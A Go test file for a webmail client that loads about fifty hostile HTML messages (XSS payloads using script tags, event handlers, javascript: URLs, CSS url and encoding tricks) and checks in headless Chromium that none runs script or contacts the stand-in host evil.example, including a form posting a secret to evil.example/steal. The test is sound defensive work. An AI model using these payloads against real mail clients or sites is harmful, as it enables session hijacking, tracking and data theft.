package web

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/tidings-mail/tidings/internal/testsrv"
)

// xssVectors are hostile HTML bodies, one per message. Each tries to run a
// script (it would open a dialog or call the evil host) or to make the
// browser contact a remote host while remote content is blocked.
var xssVectors = []string{
	`<script>alert('xss')</script>`,
	`<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
	`<img src=x onerror="alert('xss')">`,
	`<IMG SRC=x ONERROR=alert('xss')>`,
	`<img src="x" onerror="fetch('http://evil.example/onerror')">`,
	`<body onload="alert('xss')">hello</body>`,
	`<svg onload="alert('xss')"></svg>`,
	`<svg><script>alert('xss')</script></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=alert('xss')></style></mglyph></table></mtext></math>`,
	`<a href="javascript:alert('xss')">click</a>`,
	`<a href="JaVaScRiPt:alert('xss')">click</a>`,
	`<a href="java&#x09;script:alert('xss')">click</a>`,
	`<a href="&#106;avascript:alert('xss')">click</a>`,
	`<a href="data:text/html,<script>alert('xss')</script>">click</a>`,
	`<iframe src="javascript:alert('xss')"></iframe>`,
	`<iframe srcdoc="<script>alert('xss')</script>"></iframe>`,
	`<object data="http://evil.example/x.swf"></object>`,
	`<embed src="http://evil.example/x.swf">`,
	`<base href="http://evil.example/"><img src="relative.png">`,
	`<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">`,
	`<link rel="stylesheet" href="http://evil.example/x.css">`,
	`<style>@import url(http://evil.example/import.css);</style>`,
	`<style>body{background:url(http://evil.example/style-bg.png)}</style>`,
	`<div style="background-image:url(http://evil.example/inline-bg.png)">x</div>`,
	`<div style="background:url(javascript:alert('xss'))">x</div>`,
	`<div style="width:expression(alert('xss'))">x</div>`,
	`<div style="behavior:url(http://evil.example/x.htc)">x</div>`,
	`<div style="-moz-binding:url(http://evil.example/x.xml#xss)">x</div>`,
	`<div style="background:u\72l(http://evil.example/escaped.png)">x</div>`,
	`<img src="http://evil.example/tracker.gif" width="1" height="1">`,
	`<img srcset="http://evil.example/srcset.png 1x">`,
	`<table background="http://evil.example/table-bg.png"><tr><td>x</td></tr></table>`,
	`<video poster="http://evil.example/poster.png"></video>`,
	`<audio src="http://evil.example/a.mp3" autoplay></audio>`,
	`<form action="http://evil.example/steal"><input name=p value=secret><button>go</button></form>`,
	`<button formaction="javascript:alert('xss')">x</button>`,
	`<input type="image" src="http://evil.example/input.png">`,
	`<noscript><p title="</noscript><img src=x onerror=alert('xss')>"></noscript>`,
	`<title><img src=x onerror=alert('xss')></title>`,
	`<textarea><img src=x onerror=alert('xss')></textarea>`,
	`<!--<img src="--><img src=x onerror=alert('xss')//">`,
	`<![CDATA[<img src=x onerror=alert('xss')>]]>`,
	`<details open ontoggle="alert('xss')">x</details>`,
	`<marquee onstart="alert('xss')">x</marquee>`,
	`<div onmouseover="alert('xss')" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</div>`,
	`<a href="http://evil.example/" ping="http://evil.example/ping">link</a>`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KCd4c3MnKSIvPg==">`,
	`<svg><a xlink:href="javascript:alert('xss')"><text y="20">x</text></a></svg>`,
	`<isindex action="javascript:alert('xss')" type=image>`,
	`<img src=x:alert(alt) onerror=eval(src) alt='xss'>`,
	`<img """><script>alert('xss')</script>">`,
	"<scr\x00ipt>alert('xss')</scr\x00ipt>",
}

// TestXSSInBrowser opens each hostile message in headless Chromium: no
// dialog may open, nothing may be requested from another host, and the
// app page itself must stay untouched.
func TestXSSInBrowser(t *testing.T) {
	t.Parallel()
	d := testsrv.StartDovecot(t, testsrv.User{Name: "mallory", Password: "target-pw"})
	var msgs []testsrv.MaildirMessage
	for i, v := range xssVectors {
		raw := fmt.Sprintf("From: Attacker <evil@example.net>\r\nTo: mallory@example.test\r\nSubject: vector %d\r\n"+
			"Date: Mon, 23 Nov 2026 10:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"+
			"<html><body><p>vector %d</p>%s</body></html>\r\n", i, i, v)
		msgs = append(msgs, testsrv.MaildirMessage{Mailbox: "INBOX", Raw: []byte(raw), Flags: "S"})
	}
	d.WriteMaildir(t, "mallory", msgs)
	a := newTestApp(t, testIMAPConfig(d.IMAPAddr, "none"))
	b := newBrowser(t, a.srv.URL)
	b.run(chromedp.Navigate(a.srv.URL+"/login"),
		chromedp.SendKeys("#username", "mallory", chromedp.ByQuery),
		chromedp.SendKeys("#password", "target-pw", chromedp.ByQuery),
		chromedp.Submit("#password", chromedp.ByQuery),
		chromedp.WaitVisible("li[data-uid]", chromedp.ByQuery))

	for i, v := range xssVectors {
		var marker bool
		b.run(chromedp.Navigate(fmt.Sprintf("%s/mail/INBOX/%d", a.srv.URL, i+1)),
			chromedp.WaitVisible("#msg-subject", chromedp.ByQuery),
			chromedp.Sleep(150*time.Millisecond),
			chromedp.Evaluate(`window.xss === true || document.title.includes("xss")`, &marker))
		if marker {
			t.Errorf("vector %d changed the app page: %s", i, v)
		}
		b.mu.Lock()
		alerts := b.alerts
		b.alerts = nil
		b.mu.Unlock()
		if len(alerts) > 0 {
			t.Errorf("vector %d ran script (dialog %q): %s", i, alerts, v)
		}
		if r := b.foreignRequests(); len(r) > 0 {
			t.Errorf("vector %d contacted another host %v: %s", i, r, v)
		}
		b.mu.Lock()
		b.requests = nil
		b.mu.Unlock()
	}
	t.Logf("%d vectors: no script ran, no remote request", len(xssVectors))
	b.takeProblems() // CSP reports from blocked attempts are expected here

	// Remote content is one click away, for that message only.
	remote := 29 // the tracker image vector
	if !strings.Contains(xssVectors[remote], "tracker.gif") {
		t.Fatal("vector index moved")
	}
	b.run(chromedp.Navigate(fmt.Sprintf("%s/mail/INBOX/%d", a.srv.URL, remote+1)),
		chromedp.WaitVisible(".remote-banner a", chromedp.ByQuery),
		chromedp.Click(".remote-banner a", chromedp.ByQuery),
		chromedp.WaitVisible("iframe.msg-html", chromedp.ByQuery),
		chromedp.Sleep(500*time.Millisecond))
	if r := b.foreignRequests(); len(r) == 0 || !strings.Contains(strings.Join(r, " "), "tracker.gif") {
		t.Errorf("after 'show remote content', the image was not requested: %v", r)
	}
	b.mu.Lock()
	b.requests = nil
	b.mu.Unlock()
	b.run(chromedp.Navigate(fmt.Sprintf("%s/mail/INBOX/%d", a.srv.URL, remote)),
		chromedp.WaitVisible("#msg-subject", chromedp.ByQuery), chromedp.Sleep(200*time.Millisecond))
	if r := b.foreignRequests(); len(r) > 0 {
		t.Errorf("allowing remote content leaked to another message: %v", r)
	}
}
